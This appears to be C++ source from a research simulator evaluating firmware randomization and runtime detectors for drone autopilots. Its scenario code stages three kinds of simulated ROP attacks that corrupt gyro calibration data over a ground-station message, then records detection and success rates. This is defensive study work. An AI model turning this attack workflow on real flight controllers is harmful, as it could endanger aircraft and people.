/// A small fast-to-simulate profile for unit tests (not a paper target).
AppProfile testapp(bool vulnerable = true);

}  // namespace mavr::firmware
