#include "campaign/export.hpp"

#include <cstdarg>
#include <cstdio>

#include "support/error.hpp"

namespace mavr::campaign {

std::string format_exact(const char* fmt, ...) {
  std::va_list args;
  va_start(args, fmt);
  std::va_list measure;
  va_copy(measure, args);
  const int needed = std::vsnprintf(nullptr, 0, fmt, measure);
  va_end(measure);
  MAVR_CHECK(needed >= 0, "vsnprintf rejected the export format string");
  std::string out(static_cast<std::size_t>(needed), '\0');
  // +1: vsnprintf writes the NUL into out.data()[needed], which C++17
  // guarantees is writable.
  const int written = std::vsnprintf(out.data(), out.size() + 1, fmt, args);
  va_end(args);
  MAVR_CHECK(written == needed, "export row changed width between passes");
  return out;
}

namespace {

// %.17g round-trips doubles exactly, so an exported file is bitwise
// comparable across runs. `jobs` is deliberately absent from both formats:
// it is an execution detail, and the engine's contract is that it does not
// affect any exported value — jobs=1 and jobs=8 runs of the same campaign
// produce byte-identical files.
constexpr const char* kFields =
    "scenario,trials,seed,n_functions,fault_rate,attack,detectors,"
    "successes,detections,detector_trips,degradations,mean_attempts,"
    "max_attempts,p50_attempts,p90_attempts,p99_attempts,mean_cycles,"
    "total_cycles,mean_startup_ms,mean_ttd_cycles";

// Detect-sweep config columns; "-" keeps other scenarios' rows regular
// without implying they flew an attack or armed detectors.
std::string attack_field(const CampaignConfig& config) {
  if (config.scenario != Scenario::kDetectSweep) return "-";
  return detect_attack_name(config.detect_attack);
}

std::string detectors_field(const CampaignConfig& config) {
  if (config.scenario != Scenario::kDetectSweep) return "-";
  return detect::detector_set_name(config.detectors);
}

std::string format_row(const char* fmt, const CampaignConfig& config,
                       const CampaignStats& stats) {
  // The format string varies per exporter, so the printf-format check
  // cannot see it — the shared argument list below is the single point
  // that must stay in sync with both row formats.
#pragma GCC diagnostic push
#pragma GCC diagnostic ignored "-Wformat-nonliteral"
  return format_exact(fmt, scenario_name(config.scenario),
                      static_cast<unsigned long long>(config.trials),
                      static_cast<unsigned long long>(config.seed),
                      static_cast<unsigned>(config.n_functions),
                      config.fault_rate, attack_field(config).c_str(),
                      detectors_field(config).c_str(),
                      static_cast<unsigned long long>(stats.successes),
                      static_cast<unsigned long long>(stats.detections),
                      static_cast<unsigned long long>(stats.detector_trips),
                      static_cast<unsigned long long>(stats.degradations),
                      stats.mean_attempts, stats.max_attempts,
                      stats.p50_attempts, stats.p90_attempts,
                      stats.p99_attempts, stats.mean_cycles,
                      static_cast<unsigned long long>(stats.total_cycles),
                      stats.mean_startup_ms, stats.mean_ttd_cycles);
#pragma GCC diagnostic pop
}

}  // namespace

const char* csv_header() { return kFields; }

std::string csv_row(const CampaignConfig& config, const CampaignStats& stats) {
  return format_row("%s,%llu,%llu,%u,%.17g,%s,%s,%llu,%llu,%llu,%llu,"
                    "%.17g,%.17g,%.17g,%.17g,%.17g,%.17g,%llu,%.17g,%.17g\n",
                    config, stats);
}

std::string to_csv(const CampaignConfig& config, const CampaignStats& stats) {
  return std::string(kFields) + "\n" + csv_row(config, stats);
}

std::string to_json(const CampaignConfig& config, const CampaignStats& stats) {
  return format_row(
      "{\"scenario\": \"%s\", \"trials\": %llu, \"seed\": %llu, "
      "\"n_functions\": %u, \"fault_rate\": %.17g, \"attack\": \"%s\", "
      "\"detectors\": \"%s\", \"successes\": %llu, "
      "\"detections\": %llu, \"detector_trips\": %llu, "
      "\"degradations\": %llu, "
      "\"mean_attempts\": %.17g, \"max_attempts\": %.17g, "
      "\"p50_attempts\": %.17g, \"p90_attempts\": %.17g, "
      "\"p99_attempts\": %.17g, \"mean_cycles\": %.17g, "
      "\"total_cycles\": %llu, \"mean_startup_ms\": %.17g, "
      "\"mean_ttd_cycles\": %.17g}\n",
      config, stats);
}

}  // namespace mavr::campaign
