#include "campaign/export.hpp"

#include <cstdio>

namespace mavr::campaign {

namespace {

// %.17g round-trips doubles exactly, so an exported file is bitwise
// comparable across runs. `jobs` is deliberately absent from both formats:
// it is an execution detail, and the engine's contract is that it does not
// affect any exported value — jobs=1 and jobs=8 runs of the same campaign
// produce byte-identical files.
constexpr const char* kFields =
    "scenario,trials,seed,n_functions,successes,detections,"
    "mean_attempts,max_attempts,p50_attempts,p90_attempts,p99_attempts,"
    "mean_cycles,total_cycles";

std::string format_row(const char* fmt, const CampaignConfig& config,
                       const CampaignStats& stats) {
  char buf[1024];
  std::snprintf(buf, sizeof buf, fmt, scenario_name(config.scenario),
                static_cast<unsigned long long>(config.trials),
                static_cast<unsigned long long>(config.seed),
                static_cast<unsigned>(config.n_functions),
                static_cast<unsigned long long>(stats.successes),
                static_cast<unsigned long long>(stats.detections),
                stats.mean_attempts, stats.max_attempts, stats.p50_attempts,
                stats.p90_attempts, stats.p99_attempts, stats.mean_cycles,
                static_cast<unsigned long long>(stats.total_cycles));
  return buf;
}

}  // namespace

std::string to_csv(const CampaignConfig& config, const CampaignStats& stats) {
  return std::string(kFields) + "\n" +
         format_row("%s,%llu,%llu,%u,%llu,%llu,"
                    "%.17g,%.17g,%.17g,%.17g,%.17g,%.17g,%llu\n",
                    config, stats);
}

std::string to_json(const CampaignConfig& config, const CampaignStats& stats) {
  return format_row(
      "{\"scenario\": \"%s\", \"trials\": %llu, \"seed\": %llu, "
      "\"n_functions\": %u, \"successes\": %llu, \"detections\": %llu, "
      "\"mean_attempts\": %.17g, \"max_attempts\": %.17g, "
      "\"p50_attempts\": %.17g, \"p90_attempts\": %.17g, "
      "\"p99_attempts\": %.17g, \"mean_cycles\": %.17g, "
      "\"total_cycles\": %llu}\n",
      config, stats);
}

}  // namespace mavr::campaign
