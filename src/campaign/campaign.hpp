// Deterministic parallel trial engine for fleet-scale attack/defense
// campaigns.
//
// The paper's security argument (§V-D, §VII-A) is statistical — expected
// brute-force effort against fixed vs. re-randomized images — but a single
// board and a serial trial stream cannot populate those distributions at
// scale. The campaign engine runs N independent trials (each with its own
// sim::Board and freshly MAVR-randomized firmware, or a pure brute-force
// model draw) across a fixed-size thread pool.
//
// Determinism contract: aggregated results are bit-identical for any
// `jobs` value. Three mechanisms enforce it:
//  * every trial draws from its own Rng forked off the root seed
//    (support::Rng::fork — splitmix64 seed derivation), never from a
//    shared stream;
//  * trials are distributed in fixed-size chunks, each chunk owns a
//    floating-point accumulator, and chunks are merged in index order at
//    join — so the summation order is independent of which worker ran
//    which chunk;
//  * order statistics come from a per-trial metric vector whose slots are
//    written by trial index and sorted after the join.
#pragma once

#include <atomic>
#include <cstdint>
#include <functional>
#include <optional>
#include <span>
#include <string_view>
#include <vector>

#include "detect/engine.hpp"
#include "support/rng.hpp"

namespace mavr::campaign {

/// What one trial simulates.
enum class Scenario {
  kV1,               ///< traditional ROP vs. a freshly randomized board
  kV2,               ///< stealthy ROP vs. a freshly randomized board
  kV3,               ///< trampoline ROP vs. a freshly randomized board
  kBruteForceFixed,  ///< model: attacker vs. one fixed permutation
  kBruteForceRerand, ///< model: attacker vs. re-randomize-on-failure
  kFaultSweep,       ///< reflash pipeline vs. an armed fault plane
  kDetectSweep,      ///< runtime detectors vs. one attack variant / clean
  kAnalyzeSweep      ///< detect sweep + analysis-derived per-function policy
};

const char* scenario_name(Scenario scenario);
/// One-line human description (mavr-campaign --list-scenarios).
const char* scenario_description(Scenario scenario);
std::optional<Scenario> parse_scenario(std::string_view name);
bool scenario_uses_board(Scenario scenario);
/// Every registered scenario, in presentation order.
std::span<const Scenario> all_scenarios();

/// Which flight the detect-sweep scenario flies against the detectors.
enum class DetectAttack {
  kClean,  ///< no attack: measures the false-positive rate
  kV1,     ///< traditional ROP (crashes off the smashed stack)
  kV2,     ///< stealthy ROP (repairs the frame, clean return)
  kV3      ///< trampoline ROP (stages the chain in unused SRAM)
};

const char* detect_attack_name(DetectAttack attack);
std::optional<DetectAttack> parse_detect_attack(std::string_view name);

struct CampaignConfig {
  Scenario scenario = Scenario::kBruteForceFixed;
  std::uint64_t trials = 1000;
  unsigned jobs = 1;          ///< worker threads (1..256)
  std::uint64_t seed = 1;     ///< root seed; trial t uses fork(t)

  // Brute-force model scenarios: the paper's n (movable functions).
  std::uint32_t n_functions = 5;

  // Board scenarios: cycle budget shape of one attack attempt.
  std::uint64_t warmup_cycles = 400'000;   ///< boot-to-cruise before attack
  std::uint64_t slice_cycles = 100'000;    ///< watchdog service interval
  std::uint32_t attack_slices = 60;        ///< slices after payload delivery
  std::uint64_t watchdog_timeout_cycles = 400'000;

  // Fault-sweep scenario: per-operation injection rate fed through
  // support::FaultConfig::uniform (0 = fault-free pipeline).
  double fault_rate = 0.0;

  // Detect-sweep scenario: the detector set armed on every board, the
  // flight flown against it, and whether MAVR randomization stays on.
  // Randomization defaults off so the stock-derived payloads exercise the
  // detectors as designed — the stealth hierarchy is a property of the
  // detectors, not of stale gadget addresses (DESIGN.md §10).
  unsigned detectors = detect::kDetectAll;
  DetectAttack detect_attack = DetectAttack::kClean;
  bool detect_randomize = false;

  // Analyze-sweep scenario: when true every trial's master carries the
  // static-analysis-derived per-function policy (detect::kDetectPolicy is
  // armed on top of `detectors`); when false the same trial runs with the
  // generic detectors alone — the baseline the derived policy's
  // detection-rate delta is measured against (DESIGN.md §15).
  bool analyze_policy = true;

  // Board scenarios: run each trial's CPU through the superblock
  // threaded-code tier (the default execution path) or force the plain
  // interpreter. Results are bit-identical either way — the toggle exists
  // so CI can prove exactly that on full campaigns and so a tier
  // regression can be bisected without rebuilding.
  bool exec_tier = true;
};

/// Outcome of one trial.
struct TrialResult {
  bool success = false;   ///< attack landed / reflash recovered fresh image
  bool detected = false;  ///< master declared a failed attack
  bool degraded = false;  ///< fault sweep: fell to last-good or held safe
  bool detector_fired = false;  ///< detect sweep: a runtime detector tripped
  double attempts = 1;    ///< model attempts / reflash programming attempts
  double startup_ms = 0;  ///< fault sweep: faulted-reflash startup time
  std::uint64_t cycles = 0;  ///< board cycles consumed by the trial
  /// Detect sweep: cycles from payload delivery to the detection the
  /// master acted on (first detector verdict when one fired, else the
  /// watchdog's service call). Only meaningful when `detected`.
  std::uint64_t ttd_cycles = 0;
};

/// Aggregate over all trials. Every field is bit-identical across `jobs`.
struct CampaignStats {
  std::uint64_t trials = 0;
  std::uint64_t successes = 0;
  std::uint64_t detections = 0;
  std::uint64_t degradations = 0;
  double mean_attempts = 0;
  double max_attempts = 0;
  double p50_attempts = 0;
  double p90_attempts = 0;
  double p99_attempts = 0;
  double mean_cycles = 0;
  std::uint64_t total_cycles = 0;
  double mean_startup_ms = 0;
  std::uint64_t detector_trips = 0;  ///< trials where a detector fired
  double mean_ttd_cycles = 0;        ///< mean ttd over detected trials
};

/// One trial: index plus its private forked Rng stream.
using TrialFn = std::function<TrialResult(std::uint64_t trial_index,
                                          support::Rng& rng)>;

/// Work-distribution grain. Fixed (never derived from `jobs` or worker
/// count) so the chunk → trial mapping, and with it every chunk
/// accumulator, is the same no matter how many workers there are — or
/// which process they run in (`src/campaignd` ships chunks over a socket
/// under the same contract).
inline constexpr std::uint64_t kChunkTrials = 64;

/// Number of chunks a campaign of `trials` trials decomposes into.
std::uint64_t num_chunks(std::uint64_t trials);

/// Per-chunk floating-point accumulator. Summation happens trial-by-trial
/// inside the chunk and chunk-by-chunk (in index order) at merge, so the
/// rounding sequence is a function of the trial mapping alone.
struct ChunkAccum {
  double sum_attempts = 0;
  double max_attempts = 0;
  double sum_startup_ms = 0;
  double sum_ttd_cycles = 0;  ///< over detected trials only
  std::uint64_t cycles = 0;
  std::uint64_t successes = 0;
  std::uint64_t detections = 0;
  std::uint64_t degradations = 0;
  std::uint64_t detector_trips = 0;
};

/// One completed chunk: the accumulator plus the per-trial attempts metric
/// for the chunk's trial slots. Attempts ride along because the campaign's
/// order statistics (p50/p90/p99) need every trial's value at the final
/// merge, wherever the chunk was computed.
struct ChunkResult {
  std::uint64_t index = 0;  ///< chunk index; covers trials [index*64, ...)
  ChunkAccum accum;
  std::vector<double> attempts;  ///< one slot per trial in the chunk
};

/// Runs chunks [begin_chunk, end_chunk) serially in index order, forking
/// the same per-trial Rng streams `run_trials` would. `abort`, when
/// non-null, is checked before every trial; once observed true the
/// partially-run chunk is discarded and only chunks completed so far are
/// returned. This is the unit of work `mavr-campaignd` ships to worker
/// processes.
std::vector<ChunkResult> run_chunk_range(
    const CampaignConfig& config, const TrialFn& fn, std::uint64_t begin_chunk,
    std::uint64_t end_chunk, const std::atomic<bool>* abort = nullptr);

/// Merges chunk results — sorted by strictly increasing index, possibly a
/// partial subset of the campaign — into aggregate stats. When the set is
/// complete this is bit-identical to what `run_trials` returns: the same
/// chunk-order summation, the same sorted-attempts percentiles.
/// `stats.trials` is the number of trials the merged chunks cover.
CampaignStats merge_chunk_results(std::span<const ChunkResult> chunks);

/// Core engine: runs `config.trials` evaluations of `fn` across
/// `config.jobs` worker threads with chunked work distribution.
/// `fn` must be callable concurrently from multiple threads (trials are
/// independent; each call gets a distinct index and Rng).
/// After any trial throws, the first exception is rethrown at the join and
/// every worker stops at its next per-trial abort check — an error does
/// not wait out the other workers' full 64-trial chunks.
CampaignStats run_trials(const CampaignConfig& config, const TrialFn& fn);

}  // namespace mavr::campaign
