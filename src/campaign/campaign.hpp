// Deterministic parallel trial engine for fleet-scale attack/defense
// campaigns.
//
// The paper's security argument (§V-D, §VII-A) is statistical — expected
// brute-force effort against fixed vs. re-randomized images — but a single
// board and a serial trial stream cannot populate those distributions at
// scale. The campaign engine runs N independent trials (each with its own
// sim::Board and freshly MAVR-randomized firmware, or a pure brute-force
// model draw) across a fixed-size thread pool.
//
// Determinism contract: aggregated results are bit-identical for any
// `jobs` value. Three mechanisms enforce it:
//  * every trial draws from its own Rng forked off the root seed
//    (support::Rng::fork — splitmix64 seed derivation), never from a
//    shared stream;
//  * trials are distributed in fixed-size chunks, each chunk owns a
//    floating-point accumulator, and chunks are merged in index order at
//    join — so the summation order is independent of which worker ran
//    which chunk;
//  * order statistics come from a per-trial metric vector whose slots are
//    written by trial index and sorted after the join.
#pragma once

#include <cstdint>
#include <functional>
#include <optional>
#include <string_view>

#include "support/rng.hpp"

namespace mavr::campaign {

/// What one trial simulates.
enum class Scenario {
  kV1,               ///< traditional ROP vs. a freshly randomized board
  kV2,               ///< stealthy ROP vs. a freshly randomized board
  kV3,               ///< trampoline ROP vs. a freshly randomized board
  kBruteForceFixed,  ///< model: attacker vs. one fixed permutation
  kBruteForceRerand, ///< model: attacker vs. re-randomize-on-failure
  kFaultSweep        ///< reflash pipeline vs. an armed fault plane
};

const char* scenario_name(Scenario scenario);
std::optional<Scenario> parse_scenario(std::string_view name);
bool scenario_uses_board(Scenario scenario);

struct CampaignConfig {
  Scenario scenario = Scenario::kBruteForceFixed;
  std::uint64_t trials = 1000;
  unsigned jobs = 1;          ///< worker threads (1..256)
  std::uint64_t seed = 1;     ///< root seed; trial t uses fork(t)

  // Brute-force model scenarios: the paper's n (movable functions).
  std::uint32_t n_functions = 5;

  // Board scenarios: cycle budget shape of one attack attempt.
  std::uint64_t warmup_cycles = 400'000;   ///< boot-to-cruise before attack
  std::uint64_t slice_cycles = 100'000;    ///< watchdog service interval
  std::uint32_t attack_slices = 60;        ///< slices after payload delivery
  std::uint64_t watchdog_timeout_cycles = 400'000;

  // Fault-sweep scenario: per-operation injection rate fed through
  // support::FaultConfig::uniform (0 = fault-free pipeline).
  double fault_rate = 0.0;
};

/// Outcome of one trial.
struct TrialResult {
  bool success = false;   ///< attack landed / reflash recovered fresh image
  bool detected = false;  ///< master declared a failed attack
  bool degraded = false;  ///< fault sweep: fell to last-good or held safe
  double attempts = 1;    ///< model attempts / reflash programming attempts
  double startup_ms = 0;  ///< fault sweep: faulted-reflash startup time
  std::uint64_t cycles = 0;  ///< board cycles consumed by the trial
};

/// Aggregate over all trials. Every field is bit-identical across `jobs`.
struct CampaignStats {
  std::uint64_t trials = 0;
  std::uint64_t successes = 0;
  std::uint64_t detections = 0;
  std::uint64_t degradations = 0;
  double mean_attempts = 0;
  double max_attempts = 0;
  double p50_attempts = 0;
  double p90_attempts = 0;
  double p99_attempts = 0;
  double mean_cycles = 0;
  std::uint64_t total_cycles = 0;
  double mean_startup_ms = 0;
};

/// One trial: index plus its private forked Rng stream.
using TrialFn = std::function<TrialResult(std::uint64_t trial_index,
                                          support::Rng& rng)>;

/// Core engine: runs `config.trials` evaluations of `fn` across
/// `config.jobs` worker threads with chunked work distribution.
/// `fn` must be callable concurrently from multiple threads (trials are
/// independent; each call gets a distinct index and Rng).
CampaignStats run_trials(const CampaignConfig& config, const TrialFn& fn);

}  // namespace mavr::campaign
