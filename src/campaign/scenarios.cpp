#include "campaign/scenarios.hpp"

#include "analysis/analyze.hpp"
#include "defense/bruteforce.hpp"
#include "defense/external_flash.hpp"
#include "defense/master.hpp"
#include "defense/preprocess.hpp"
#include "sim/board.hpp"
#include "sim/ground.hpp"
#include "support/error.hpp"
#include "support/fault.hpp"

namespace mavr::campaign {

namespace {

/// Unused high SRAM where V3 stages its big chain (same spot the
/// stealthy-attack tests use).
constexpr std::uint16_t kV3StagingAddr = 0x1B00;

TrialResult run_bruteforce_trial(Scenario scenario, std::uint32_t n_functions,
                                 support::Rng& rng) {
  // One model draw per trial; the defense module owns the model.
  const defense::TrialStats one =
      scenario == Scenario::kBruteForceFixed
          ? defense::simulate_fixed(n_functions, 1, rng)
          : defense::simulate_rerandomized(n_functions, 1, rng);
  TrialResult result;
  result.success = true;  // both models run until the attacker succeeds
  result.attempts = one.mean_attempts;
  return result;
}

TrialResult run_board_trial(const SimFixture& fx, const CampaignConfig& config,
                            support::Rng& rng) {
  defense::ExternalFlash flash;
  sim::Board board;
  board.cpu().set_exec_tier(config.exec_tier);
  defense::MasterConfig mcfg;
  mcfg.seed = rng.next();  // per-trial permutation stream
  mcfg.watchdog_timeout_cycles = config.watchdog_timeout_cycles;
  defense::MasterProcessor master(flash, board, mcfg);
  master.host_upload_hex(fx.container_hex);
  master.boot();
  const std::uint64_t start_cycles = board.cpu().cycles();
  board.run_cycles(config.warmup_cycles);

  // The attacker's guess: stock-derived plan, randomly chosen pivot gadget
  // (every gadget address is stale against the fresh permutation).
  attack::AttackPlan guess = fx.plan;
  guess.stk = fx.usable_stk[rng.below(fx.usable_stk.size())];
  const attack::RopChainBuilder builder = guess.builder();
  const attack::Write3 write{fx.plan.gyro_cal_addr, {0xD1, 0x07, 0x00}};

  std::vector<support::Bytes> payloads;
  switch (config.scenario) {
    case Scenario::kV1:
      payloads.push_back(builder.v1_payload(write));
      break;
    case Scenario::kV2:
      payloads.push_back(builder.v2_payload({write}));
      break;
    case Scenario::kV3:
      payloads = builder.v3_payloads(kV3StagingAddr, {write});
      break;
    default:
      MAVR_CHECK(false, "not a board scenario");
  }

  sim::GroundStation gcs(board);
  for (const support::Bytes& p : payloads) gcs.send_raw_param_set(p);

  TrialResult result;
  auto landed = [&] {
    return board.cpu().data().raw(fx.plan.gyro_cal_addr) == write.bytes[0] &&
           board.cpu().data().raw(fx.plan.gyro_cal_addr + 1) == write.bytes[1];
  };
  for (std::uint32_t s = 0; s < config.attack_slices; ++s) {
    board.run_cycles(config.slice_cycles);
    // Check the write before servicing the watchdog: a detection reflashes
    // the board and wipes the evidence.
    if (landed()) {
      result.success = true;
      break;
    }
    if (master.service()) {
      result.detected = true;
      break;
    }
  }
  result.attempts = 1;
  result.cycles = board.cpu().cycles() - start_cycles;
  return result;
}

// One detect-sweep trial: a board flying behind a master with a runtime
// intrusion-detection engine armed on its core, attacked (or not) by one
// stock-derived payload. Randomization is normally *off* here
// (CampaignConfig::detect_randomize) so the attack executes as designed and
// the result isolates what the detectors — not stale gadget addresses —
// catch; switching it on measures the combined defense.
TrialResult run_detect_trial(const SimFixture& fx, const CampaignConfig& config,
                             support::Rng& rng) {
  defense::ExternalFlash flash;
  sim::Board board;
  board.cpu().set_exec_tier(config.exec_tier);
  defense::MasterConfig mcfg;
  mcfg.seed = rng.next();  // per-trial permutation stream
  mcfg.watchdog_timeout_cycles = config.watchdog_timeout_cycles;
  mcfg.randomize_enabled = config.detect_randomize;
  defense::MasterProcessor master(flash, board, mcfg);

  detect::EngineConfig ecfg;
  ecfg.detectors = config.detectors;
  // Analyze sweep: the derived per-function policy rides on top of the
  // configured generic set. With analyze_policy off the same trial is the
  // generic baseline the detection-rate delta is measured against.
  const bool derived = config.scenario == Scenario::kAnalyzeSweep &&
                       config.analyze_policy;
  if (derived) ecfg.detectors |= detect::kDetectPolicy;
  detect::Engine engine(ecfg);
  engine.arm(board.cpu());
  master.attach_detector(&engine);
  if (derived) master.attach_policy(&fx.policy);

  master.host_upload_hex(fx.container_hex);
  master.boot();  // programs the image and rebuilds the engine's CFI set
  const std::uint64_t start_cycles = board.cpu().cycles();
  board.run_cycles(config.warmup_cycles);

  std::vector<support::Bytes> payloads;
  const attack::Write3 write{fx.plan.gyro_cal_addr, {0xD1, 0x07, 0x00}};
  if (config.detect_attack != DetectAttack::kClean) {
    attack::AttackPlan guess = fx.plan;
    guess.stk = fx.usable_stk[rng.below(fx.usable_stk.size())];
    const attack::RopChainBuilder builder = guess.builder();
    switch (config.detect_attack) {
      case DetectAttack::kV1:
        payloads.push_back(builder.v1_payload(write));
        break;
      case DetectAttack::kV2:
        payloads.push_back(builder.v2_payload({write}));
        break;
      case DetectAttack::kV3:
        payloads = builder.v3_payloads(kV3StagingAddr, {write});
        break;
      case DetectAttack::kClean:
        break;
    }
  }

  const std::uint64_t attack_cycle = board.cpu().cycles();
  sim::GroundStation gcs(board);
  for (const support::Bytes& p : payloads) gcs.send_raw_param_set(p);

  TrialResult result;
  auto landed = [&] {
    return board.cpu().data().raw(fx.plan.gyro_cal_addr) == write.bytes[0] &&
           board.cpu().data().raw(fx.plan.gyro_cal_addr + 1) == write.bytes[1];
  };
  for (std::uint32_t s = 0; s < config.attack_slices; ++s) {
    board.run_cycles(config.slice_cycles);
    // Success and detection are not exclusive: a stealthy write can land in
    // the same slice the detector flags the pivot — the campaign reports
    // both, the detection rate is what ranks the detectors.
    if (!result.success && config.detect_attack != DetectAttack::kClean &&
        landed()) {
      result.success = true;
    }
    if (master.service()) {
      result.detected = true;
      // The master's recovery already reset the engine's latch; the verdict
      // log and lifetime trip counter survive for attribution.
      result.detector_fired = engine.total_trips() > 0;
      const std::uint64_t now = board.cpu().cycles();
      std::uint64_t at = now;
      if (!engine.verdicts().empty()) at = engine.verdicts().front().cycle;
      result.ttd_cycles = at > attack_cycle ? at - attack_cycle : 0;
      break;
    }
  }
  if (config.detect_attack == DetectAttack::kClean) {
    // A clean flight succeeds by surviving: no detection, no crash.
    result.success = !result.detected && !board.crashed();
  }
  result.attempts = 1;
  result.cycles = board.cpu().cycles() - start_cycles;
  return result;
}

// One fault-sweep trial (the reflash pipeline under an armed fault plane):
// a clean boot establishes the last-known-good image, then the plane is
// armed on every hardware boundary and a scheduled re-randomization runs
// under fault pressure. The pipeline must end in one of three verified
// states — fresh image (success), last-known-good fallback or a held
// bootloader (degraded) — and the released image must actually run.
TrialResult run_fault_trial(const SimFixture& fx, const CampaignConfig& config,
                            support::Rng& rng) {
  defense::ExternalFlash flash;
  sim::Board board;
  board.cpu().set_exec_tier(config.exec_tier);
  defense::MasterConfig mcfg;
  mcfg.seed = rng.next();  // per-trial permutation stream
  mcfg.watchdog_timeout_cycles = config.watchdog_timeout_cycles;
  defense::MasterProcessor master(flash, board, mcfg);
  master.host_upload_hex(fx.container_hex);
  master.boot();  // fault-free: establishes the last-known-good image
  const std::uint64_t start_cycles = board.cpu().cycles();

  // Arm the plane on all three boundaries. Its schedule comes from a child
  // stream forked off the trial Rng, so it is bit-reproducible per trial.
  support::FaultPlane plane(support::FaultConfig::uniform(config.fault_rate),
                            rng.fork(1));
  flash.attach_faults(&plane);
  board.attach_faults(&plane);
  master.attach_faults(&plane);
  master.boot();  // the re-randomization under test

  TrialResult result;
  result.degraded =
      master.health_state() != defense::MasterHealth::kHealthy;
  result.success = !result.degraded;
  result.attempts = 1.0 + static_cast<double>(master.health().page_retries +
                                              master.health().image_retries);
  if (!board.in_bootloader()) {
    if (master.last_startup()) {
      result.startup_ms = master.last_startup()->total_ms;
    }
    // The released image must run — a torn image would crash here.
    board.run_cycles(config.slice_cycles);
    if (board.crashed()) {
      result.success = false;
      result.degraded = true;
    }
  }
  result.cycles = board.cpu().cycles() - start_cycles;
  return result;
}

}  // namespace

SimFixture make_sim_fixture(const firmware::AppProfile& profile) {
  SimFixture fx;
  fx.fw = firmware::generate(profile, toolchain::ToolchainOptions::mavr());
  fx.plan = attack::analyze(fx.fw.image);
  fx.container_hex = defense::preprocess_to_hex(fx.fw.image);
  attack::GadgetFinder finder(fx.fw.image);
  for (const attack::StkMoveGadget& g : finder.stk_moves()) {
    if (g.pops.size() <= 3) fx.usable_stk.push_back(g);  // chain must fit
  }
  MAVR_CHECK(!fx.usable_stk.empty(), "no usable stk_move gadgets");
  fx.policy = analysis::Analyzer().analyze(fx.fw.image).policy;
  return fx;
}

TrialFn make_trial_fn(const CampaignConfig& config,
                      const SimFixture* fixture) {
  if (scenario_uses_board(config.scenario)) {
    MAVR_REQUIRE(fixture != nullptr, "board scenarios require a SimFixture");
    const SimFixture* fx = fixture;
    const CampaignConfig cfg = config;
    if (config.scenario == Scenario::kFaultSweep) {
      return [fx, cfg](std::uint64_t, support::Rng& rng) {
        return run_fault_trial(*fx, cfg, rng);
      };
    }
    if (config.scenario == Scenario::kDetectSweep ||
        config.scenario == Scenario::kAnalyzeSweep) {
      return [fx, cfg](std::uint64_t, support::Rng& rng) {
        return run_detect_trial(*fx, cfg, rng);
      };
    }
    return [fx, cfg](std::uint64_t, support::Rng& rng) {
      return run_board_trial(*fx, cfg, rng);
    };
  }
  const Scenario scenario = config.scenario;
  const std::uint32_t n_functions = config.n_functions;
  return [scenario, n_functions](std::uint64_t, support::Rng& rng) {
    return run_bruteforce_trial(scenario, n_functions, rng);
  };
}

CampaignStats run_campaign(const CampaignConfig& config,
                           const SimFixture& fixture) {
  MAVR_REQUIRE(scenario_uses_board(config.scenario),
               "fixture overload is for board scenarios");
  return run_trials(config, make_trial_fn(config, &fixture));
}

CampaignStats run_campaign(const CampaignConfig& config) {
  if (scenario_uses_board(config.scenario)) {
    const SimFixture fixture =
        make_sim_fixture(firmware::testapp(/*vulnerable=*/true));
    return run_trials(config, make_trial_fn(config, &fixture));
  }
  return run_trials(config, make_trial_fn(config, nullptr));
}

}  // namespace mavr::campaign
