#include "campaign/wire.hpp"

#include <bit>

#include "support/error.hpp"

namespace mavr::campaign::wire {

void put_u64(support::ByteWriter& w, std::uint64_t v) {
  w.u32_le(static_cast<std::uint32_t>(v & 0xFFFFFFFFu));
  w.u32_le(static_cast<std::uint32_t>(v >> 32));
}

std::uint64_t get_u64(support::ByteReader& r) {
  const std::uint64_t lo = r.u32_le();
  const std::uint64_t hi = r.u32_le();
  return lo | (hi << 32);
}

void put_f64(support::ByteWriter& w, double v) {
  put_u64(w, std::bit_cast<std::uint64_t>(v));
}

double get_f64(support::ByteReader& r) {
  return std::bit_cast<double>(get_u64(r));
}

void encode_config(support::ByteWriter& w, const CampaignConfig& config) {
  w.u8(static_cast<std::uint8_t>(config.scenario));
  put_u64(w, config.trials);
  put_u64(w, config.seed);
  w.u32_le(config.n_functions);
  put_u64(w, config.warmup_cycles);
  put_u64(w, config.slice_cycles);
  w.u32_le(config.attack_slices);
  put_u64(w, config.watchdog_timeout_cycles);
  put_f64(w, config.fault_rate);
  w.u32_le(static_cast<std::uint32_t>(config.detectors));
  w.u8(static_cast<std::uint8_t>(config.detect_attack));
  w.u8(config.detect_randomize ? 1 : 0);
  w.u8(config.analyze_policy ? 1 : 0);
  w.u8(config.exec_tier ? 1 : 0);
}

CampaignConfig decode_config(support::ByteReader& r) {
  CampaignConfig config;
  const std::uint8_t scenario = r.u8();
  if (scenario > static_cast<std::uint8_t>(Scenario::kAnalyzeSweep)) {
    throw support::DataError("wire: unknown scenario tag");
  }
  config.scenario = static_cast<Scenario>(scenario);
  config.trials = get_u64(r);
  config.seed = get_u64(r);
  config.n_functions = r.u32_le();
  config.warmup_cycles = get_u64(r);
  config.slice_cycles = get_u64(r);
  config.attack_slices = r.u32_le();
  config.watchdog_timeout_cycles = get_u64(r);
  config.fault_rate = get_f64(r);
  config.detectors = r.u32_le();
  const std::uint8_t attack = r.u8();
  if (attack > static_cast<std::uint8_t>(DetectAttack::kV3)) {
    throw support::DataError("wire: unknown detect-attack tag");
  }
  config.detect_attack = static_cast<DetectAttack>(attack);
  config.detect_randomize = r.u8() != 0;
  config.analyze_policy = r.u8() != 0;
  config.exec_tier = r.u8() != 0;
  config.jobs = 1;  // execution detail, not part of the wire identity
  return config;
}

void encode_trial_result(support::ByteWriter& w, const TrialResult& result) {
  w.u8(result.success ? 1 : 0);
  w.u8(result.detected ? 1 : 0);
  w.u8(result.degraded ? 1 : 0);
  w.u8(result.detector_fired ? 1 : 0);
  put_f64(w, result.attempts);
  put_f64(w, result.startup_ms);
  put_u64(w, result.cycles);
  put_u64(w, result.ttd_cycles);
}

TrialResult decode_trial_result(support::ByteReader& r) {
  TrialResult result;
  result.success = r.u8() != 0;
  result.detected = r.u8() != 0;
  result.degraded = r.u8() != 0;
  result.detector_fired = r.u8() != 0;
  result.attempts = get_f64(r);
  result.startup_ms = get_f64(r);
  result.cycles = get_u64(r);
  result.ttd_cycles = get_u64(r);
  return result;
}

void encode_chunk_accum(support::ByteWriter& w, const ChunkAccum& accum) {
  put_f64(w, accum.sum_attempts);
  put_f64(w, accum.max_attempts);
  put_f64(w, accum.sum_startup_ms);
  put_f64(w, accum.sum_ttd_cycles);
  put_u64(w, accum.cycles);
  put_u64(w, accum.successes);
